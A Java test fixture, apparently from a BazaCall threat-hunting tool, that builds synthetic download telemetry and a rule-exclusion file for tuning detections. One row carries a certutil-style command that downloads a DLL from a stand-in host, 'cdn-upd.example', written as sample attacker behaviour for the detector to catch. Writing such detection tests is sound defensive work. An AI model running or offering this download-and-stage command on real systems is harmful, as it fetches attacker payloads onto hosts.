package dev.bazahunt.job.testing;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.time.Duration;
import java.time.Instant;
import java.util.List;

/** Telemetry and an exclusions file that exercise every tuning option, shared by replay and live tests. */
public final class TuningScenario {
    private TuningScenario() {}

    public static final Instant T = Instant.parse("2021-07-20T14:02:58.103456700Z");

    /**
     * Four downloads on one device: the BazaCall one; the same command line again 10 minutes later by
     * another process (a repeat); an https variant only the hardened rule sees; and a sanctioned
     * package-cache job that the exclusion file covers.
     */
    public static List<String> rows() {
        ObjectNode repeat = TestRows.download(TestRows.DEVICE, T.plus(Duration.ofMinutes(10)), 200);
        repeat.put("InitiatingProcessId", 8100);
        repeat.put("InitiatingProcessCreationTime", TestRows.nanos(T.plus(Duration.ofMinutes(10)).minusMillis(90)));
        ObjectNode https = TestRows.download(TestRows.DEVICE, T.plus(Duration.ofMinutes(20)), 300);
        https.put("InitiatingProcessId", 8200);
        https.put("InitiatingProcessCommandLine", "upd.exe -urlcache -split -f https://cdn-upd.example/a.dll a.dll");
        ObjectNode sanctioned = TestRows.download(TestRows.DEVICE, T.plus(Duration.ofMinutes(40)), 400);
        sanctioned.put("InitiatingProcessId", 8300);
        sanctioned.put("InitiatingProcessFileName", "pkgcache.exe");
        sanctioned.put("InitiatingProcessCommandLine",
                "pkgcache.exe -urlcache -split -f http://packages.contoso.local/agent.msi C:\\PkgCache\\agent.msi");
        return List.of(TestRows.line(TestRows.download(TestRows.DEVICE, T, 100)), TestRows.line(repeat),
                TestRows.line(https), TestRows.line(sanctioned));
    }

    public static final String EXCLUSIONS = """
            exclusions:
              - name: Sanctioned package cache warm-up
                reason: The package cache agent pre-fetches MSI files from the internal repository.
                rules: [f5ff5b00-a90e-40b8-b241-9427a8ec5189, 395090bd-f47c-4d17-800d-50a30fba3db4]
                conditions:
                  all:
                    - {column: InitiatingProcessFileName, operator: =~, value: pkgcache.exe}
                    - {column: InitiatingProcessCommandLine, operator: has, value: packages.contoso.local}
            """;
}
